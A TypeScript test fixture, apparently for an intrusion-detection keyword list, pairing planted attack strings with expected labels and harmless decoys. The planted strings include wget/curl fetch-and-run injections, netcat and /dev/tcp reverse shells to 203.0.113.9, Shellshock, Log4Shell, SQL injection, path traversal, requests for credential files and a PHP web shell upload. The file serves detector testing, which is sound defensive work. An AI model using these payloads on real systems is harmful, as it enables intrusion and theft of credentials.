/** A text that is put into the traffic, and what a list of keywords should make of it. */
export interface Plant {
  /** `uri`, `agent`, `cookie`, `body`: of a request; `page`: body of its response; `shell`: bytes of a connection that no parser knows. */
  readonly place: "uri" | "agent" | "cookie" | "body" | "page" | "shell";
  readonly text: string;
  /** Note of the default keyword that should be told; absent for text that only looks like it. */
  readonly keyword?: string;
}

const planted = (place: Plant["place"], text: string, keyword: string): Plant => ({ place, text, keyword });
const decoy = (place: Plant["place"], text: string): Plant => ({ place, text });

/** Planted `i` comes from port 45001 + i of the client; so does its answer. */
export const plantPort = 45_001;

export const plants: readonly Plant[] = [
  planted("uri", "/setup.cgi?next_file=x&todo=syscmd&cmd=wget+http://203.0.113.9/m.sh+-O+/tmp/m", "wget is run"),
  planted("uri", "/ping?host=127.0.0.1;curl%20-s%20http://203.0.113.9/x|sh", "curl is run"),
  planted("body", "ip=127.0.0.1%3Bwget%20http%3A%2F%2F203.0.113.9%2Fa", "wget is run"),
  planted("body", "target=1`nc -e /bin/sh 203.0.113.9 4444`", "netcat is run"),
  planted("agent", "() { :; }; /bin/bash -c 'wget http://203.0.113.9/b -O /tmp/b'", "A function for bash in a header (Shellshock)"),
  planted("agent", "\x24{jndi:ldap://203.0.113.9:1389/a}", "Log4j looks something up (CVE-2021-44228)"),
  planted("cookie", "id=1' UNION ALL SELECT name,pw FROM users-- -", "SQL is put into a request: UNION SELECT"),
  planted("uri", "/item?id=3'%20or%20'1'='1", "SQL is put into a request: what is always true"),
  planted("uri", "/item?id=3%20and%20sleep(5)", "SQL is put into a request: a pause"),
  planted("uri", "/view?file=../../../../etc/passwd", "A path leads to files of the system"),
  planted("uri", "/.aws/credentials", "Files with credentials"),
  planted("uri", "/backup/.ssh/id_rsa", "Keys of SSH"),
  planted(
    "body",
    'Content-Disposition: form-data; name="f"; filename="shell.php"\r\n\r\n<?php system($_GET["c"]); ?>',
    "A script is uploaded",
  ),
  planted("body", "x=eval(base64_decode($_POST['z']));", "PHP runs what it is sent"),
  planted("uri", "/up/s.php?cmd=whoami", "Somebody asks who he is"),
  planted("page", "uid=33(www-data) gid=33(www-data) groups=33(www-data)\n", "The answer of `id`"),
  planted("page", "root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1::/usr/sbin:/bin/sh\n", "The system's list of users"),
  planted("page", "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a.ps1')", "PowerShell runs what it loads"),
  planted("shell", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n", "A shell's own connection: /dev/tcp"),
  planted("shell", "bash: no job control in this shell\nwww-data@web:/$ ", "A shell without a terminal answers"),
  planted("shell", "$ chmod +x /tmp/m\n", "A file is made executable"),
  planted("shell", "# cat /etc/shadow\n", "Files of the system are read"),
  planted("shell", "# python3 -c 'import pty;pty.spawn(\"/bin/sh\")'\n", "Python runs code from the line"),
  planted("shell", "Microsoft Windows [Version 10.0.19045.3693]\r\n\r\nC:\\>", "A command prompt of Windows is sent to a server"),
  planted("shell", '{"id":1,"method":"mining.subscribe","params":["miner/1.0"]}\n', "A miner speaks to its pool"),
  planted("shell", "/bin/busybox MIRAI\r\n", "The knock of an IoT bot: busybox and a word that is no command"),
  decoy("uri", "/manual/how-to-use-wget-and-curl.html"),
  decoy("uri", "/search?q=how+to+use+wget+on+windows"),
  decoy("uri", "/search?q=select+a+union+hotel"),
  decoy("uri", "/shop?category=nc-machines&sort=price"),
  decoy("uri", "/docs/etc/passwd-policy.html"),
  decoy("uri", "/blog/2025/base64-explained?id=7"),
  decoy("agent", "curl/8.5.0"),
  decoy("agent", "Wget/1.21.4"),
  decoy("agent", "python-requests/2.31.0"),
  decoy("agent", "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36"),
  decoy("cookie", "theme=dark; shell=compact; select=all"),
  decoy("body", "comment=You+can+use+wget+or+curl+to+download+it%2C+then+unpack+it."),
  decoy("body", 'Content-Disposition: form-data; name="f"; filename="holiday.jpg"\r\n\r\nJFIF'),
  decoy("body", "name=Rosa+and+Sons&union=yes&select=1"),
  decoy("page", "<p>To fetch a file, run <code>wget https://example.com/file</code>, or use curl -O with the same address.</p>"),
  decoy("page", "<p>The file /etc/passwd holds the users, /etc/shadow their passwords. PowerShell and bash can read it.</p>"),
  decoy("page", "<script>function select(){return document.cookie}</script><p>eval is evil; base64 is no cipher.</p>"),
  decoy("page", "<p>The UNION of two SELECT statements has the rows of both. Never build SQL from what a user typed.</p>"),
  decoy("shell", "welcome to the chat; ask for help with wget, curl and netcat in room 2\n"),
  decoy("shell", "STATUS shell=ok python=3.12 exec=0 select=4 root=/srv\n"),
];
